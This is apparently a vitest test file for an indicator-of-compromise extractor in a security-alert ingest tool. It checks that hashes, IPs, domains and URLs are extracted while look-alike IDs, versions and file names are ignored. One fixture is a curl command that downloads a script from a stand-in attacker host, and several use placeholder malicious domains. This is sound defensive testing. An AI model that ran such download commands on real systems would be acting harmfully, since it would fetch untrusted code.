import { describe, expect, test } from 'vitest';
import type { JsonObject } from '../../../src/features/ingest/normalize/normalize.js';
import { indicatorsIn, oneAlert } from './one-alert.js';

const digits = (length: number): string =>
  '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'.slice(0, length);

describe('ids that look like hashes', () => {
  const names = [
    'id',
    '_id',
    'uuid',
    'guid',
    'device_id',
    'deviceId',
    'deviceid',
    'device',
    'agent_id',
    'aid',
    'cid',
    'build',
    'build_id',
    'build_hash',
    'session',
    'traceId',
    'request-id',
    'SystemAlertId',
    'commit',
    'fingerprint',
    'container.id',
    'host.id',
    'kibana.alert.rule.uuid',
    'etag',
    'imphash',
  ];
  test.each(names)('in a field named %s', (name) => {
    for (const length of [32, 40, 64]) expect(indicatorsIn(digits(length), name)).toEqual({});
  });

  test('in lists and nested members', () => {
    expect(
      oneAlert({ ids: [digits(32)], device: { id: digits(40) }, build: { hash: digits(40) } }).iocs.hashes,
    ).toEqual([]);
  });

  test.each([
    `session id ${digits(32)}`,
    `"device_id": "${digits(32)}"`,
    `commit ${digits(40)}`,
    `ldt:${digits(32)}:163208931778`,
    `/var/lib/docker/containers/${digits(64)}/${digits(64)}-json.log`,
    `containerd://${digits(64)}`,
    `uses: actions/checkout@${digits(40)}`,
    `traceparent 00-${digits(32)}-00f067aa0ba902b7-01`,
    `IMPHASH=${digits(32)}`,
  ])('in the text %j', (text) => {
    expect(indicatorsIn(text)).toEqual({});
  });

  test('of nothing but zeros, even in a field for hashes', () => {
    for (const length of [32, 40, 64]) expect(indicatorsIn('0'.repeat(length), 'sha256')).toEqual({});
  });

  test('while real ones next to them are found', () => {
    const payload = { device_id: digits(32), file: { sha256: digits(64) }, process: { hash: { md5: digits(32) } } };
    expect(oneAlert(payload).iocs.hashes).toEqual([digits(64), digits(32)]);
  });
});

describe('dotted numbers that are no addresses', () => {
  test.each<[string, string]>([
    ['version', '10.0.19.1'],
    ['os_version', '10.0.19.1'],
    ['agent.version', '7.10.17.6'],
    ['osVersion', '10.0.19.1'],
    ['build', '10.0.19.1'],
    ['firmware', '1.2.3.4'],
    ['oid', '1.3.6.1'],
    ['snmpTrapOID', '2.5.29.17'],
    ['user_agent', 'Agent 1.2.3.4'],
    ['http_user_agent', 'Mozilla/5.0 (X 10.1.2.3) Chrome/49.0.26.95'],
    ['userAgentString', 'Wget 1.20.3.1'],
    ['note', 'Mozilla/5.0 Chrome/49.0.26.95 Safari/537.36'],
    ['note', 'upgraded to version 1.2.3.4'],
    ['note', 'Version: 1.2.3.4, build=1.2.3.5'],
    ['note', '{"version": "1.2.3.4"'],
    ['note', 'openssl-1.2.3.4 and v1.2.3.4 and 10.0.19045.1'],
    ['note', 'OID 2.5.29.17, OID=2.5.4.3, 1.3.6.1.4.1.311.10, 2.5.4.15=Private Organization'],
  ])('%s: %j', (name, text) => {
    expect(indicatorsIn(text, name)).toEqual({});
  });

  test('also inside the objects that describe them', () => {
    const payload = { user_agent: { original: 'x 1.2.3.4' }, host: { os: { full: 'Windows 10.0.19.1' } } };
    expect(oneAlert(payload).iocs.ips).toEqual([]);
  });
});

describe('dotted words that are no domains', () => {
  test.each([
    'update.sh',
    'archive.zip',
    'main.py',
    'lib.rs',
    'README.md',
    'libc.so',
    'run.pl',
    'clip.mov',
    'setup.cab',
    '/opt/app/evil.com',
    'C:\\tools\\evil.com',
    'src/evil.com',
    './evil.com',
    'com.example.Class',
    'com.example.app',
    'org.apache.tools',
    'java.io',
    'System.Net.WebClient',
    'System.Net',
    'System.IO',
    'java.net.UnknownHostException',
    'WScript.Shell',
    'adodb.stream',
    'subprocess.run()',
    'foo.name(1)',
    'Safari.app',
    'host.name',
    'event.id',
    'user.name',
    'process.parent.name',
    'host.os.family',
    '$host.name',
    '-Duser.name=bob',
    'guardduty.amazonaws.com',
    'ec2.amazonaws.com',
    'compute.googleapis.com',
    'rbac.authorization.k8s.io/v1',
    '//compute.googleapis.com/projects/p/zones/z',
    'ASP.NET',
    '10.30.am',
    'multi-user.target',
    '.ds-logs-endpoint.events',
    'evil.exe',
    'kernel32.dll',
    'index.php',
    'node.js',
    'a.b',
    'e.g. this',
    'user=anna.li',
    '"user": "david.kim"',
  ])('%j', (text) => {
    expect(indicatorsIn(text)).toEqual({});
  });

  test.each<[string, string]>([
    ['eventSource', 's3.amazonaws.com'],
    ['invokedBy', 'autoscaling.amazonaws.com'],
    ['user', 'david.kim'],
    ['username', 'anna.li'],
    ['file.name', 'invoice.com'],
    ['process_name', 'backup.com'],
    ['class', 'company.billing.app'],
    ['logger', 'acme.web.services'],
    ['_index', 'logs.events'],
  ])('a field named %s: %j', (name, text) => {
    expect(indicatorsIn(text, name)).toEqual({});
  });

  test('yet a field for hosts may hold one that looks like a file', () => {
    expect(indicatorsIn('get.evil.sh', 'domain')).toEqual({ domains: ['get.evil.sh'] });
    expect(oneAlert({ dns: { question: { name: 'files.zip' } } }).iocs.domains).toEqual(['files.zip']);
  });

  test('and running text is read, whoever it belongs to', () => {
    const digest = digits(64);
    const payload = { user: { comment: 'visited evil-site.com' }, device: { note: `dropped ${digest} today` } };
    expect(oneAlert(payload).iocs).toMatchObject({ domains: ['evil-site.com'], hashes: [digest] });
  });

  test('and command lines are read, though they sit in a process', () => {
    const payload = { process: { name: 'curl', command_line: 'curl -o update.sh evil-site.com/update.sh' } };
    expect(oneAlert(payload).iocs.domains).toEqual(['evil-site.com']);
  });
});

test.each<[string, JsonObject]>([
  ['a search head', { results_link: 'http://splunk.corp-soc.net:8000/app/search/@go?sid=1' }],
  [
    'an Alertmanager',
    { externalURL: 'http://am.corp-soc.net:9093', alerts: [{ generatorURL: 'http://p.corp-soc.net/g' }] },
  ],
  ['Kibana', { kibana: { alert: { url: 'https://kibana.corp-soc.net/app/x' } } }],
  ['Kibana, flat', { 'kibana.alert.url': 'https://kibana.corp-soc.net/app/x' }],
  ['a rule', { 'kibana.alert.rule.references': ['https://blog.rule-writers.com/post'] }],
  ['XML', { xml: '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">' }],
  ['ATT&CK', { reference: 'https://attack.mitre.org/techniques/T1059/' }],
])('links that belong to %s are no indicators', (_, payload) => {
  expect(oneAlert(payload).iocs).toEqual({ ips: [], domains: [], hashes: [], urls: [] });
});

test('a URL of the alert itself is one', () => {
  expect(indicatorsIn('http://evil.com/x', 'alert.url')).toEqual({
    urls: ['http://evil.com/x'],
    domains: ['evil.com'],
  });
});
